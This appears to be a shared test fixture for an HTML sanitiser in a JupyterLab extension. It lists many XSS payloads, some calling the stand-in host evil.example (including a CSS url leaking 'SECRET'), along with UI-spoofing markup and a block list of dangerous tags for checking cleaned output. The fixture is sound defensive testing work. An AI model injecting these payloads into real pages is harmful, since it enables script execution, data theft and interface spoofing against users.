/**
 * Shared by the specs: hostile HTML, and what counts as live on the page.
 */
import { linkTarget } from '../safe';

/** Classic XSS vectors: mixed case, entities, broken tags, mutation tricks. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="../../secret.md">x</a>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=q><button>go</button></form>',
  '<button data-commandlinker-command="notebook:run-all-cells">Run</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<div style="background:url(https://evil.example/?q=SECRET)">x</div>',
  '<div style="background-image:image-set(\'https://evil.example/x.png\' 1x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>',
  '<div class="jp-Dialog lm-Widget" id="jp-main-dock-panel">fake</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<<script>alert(1)//<</script>',
  '<x onclick=alert(1)>broken',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<video poster=https://evil.example/p.png></video>',
  '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>'
];

const FORBIDDEN = new Set([
  'script',
  'iframe',
  'object',
  'embed',
  'svg',
  'math',
  'style',
  'link',
  'meta',
  'base',
  'form',
  'input',
  'button',
  'img',
  'video',
  'audio',
  'template',
  'noscript'
]);

const OWN_CLASS =
  /^(?:jp-MemoryTurn|jp-mod-|jp-Rendered|language-|tok-|cm-|jm-|jupyter-memory)/;

/** Everything in cleaned HTML that could run, load or leave, found by a fresh parse. */
export function problems(html: string): string[] {
  const found: string[] = [];
  const doc = new DOMParser().parseFromString(html, 'text/html');
  for (const element of Array.from(doc.querySelectorAll('head *, body *'))) {
    const tag = element.tagName.toLowerCase();
    if (FORBIDDEN.has(tag)) {
      found.push(`<${tag}>`);
    }
    for (const { name, value } of Array.from(element.attributes)) {
      if (name.startsWith('on')) {
        found.push(`${name}= on <${tag}>`);
      }
      if (
        ['src', 'srcdoc', 'poster', 'background', 'data', 'action'].includes(
          name
        )
      ) {
        found.push(`${name}= on <${tag}>`);
      }
      if (name === 'href' && !linkTarget(value)) {
        found.push(`href=${value}`);
      }
      if (name === 'style' && /url\(|image-set|fixed/i.test(value)) {
        found.push(`style=${value}`);
      }
      if (name === 'id' || name.startsWith('data-')) {
        found.push(`${name}= on <${tag}>`);
      }
      // A class of JupyterLab's own (jp-Dialog, lm-Widget) could dress text up
      // as its interface; only ours and those of code highlighting may appear.
      const foreign = value.split(/\s+/).filter(c => c && !OWN_CLASS.test(c));
      if (name === 'class' && foreign.length) {
        found.push(`class=${foreign.join(' ')}`);
      }
    }
  }
  return found;
}
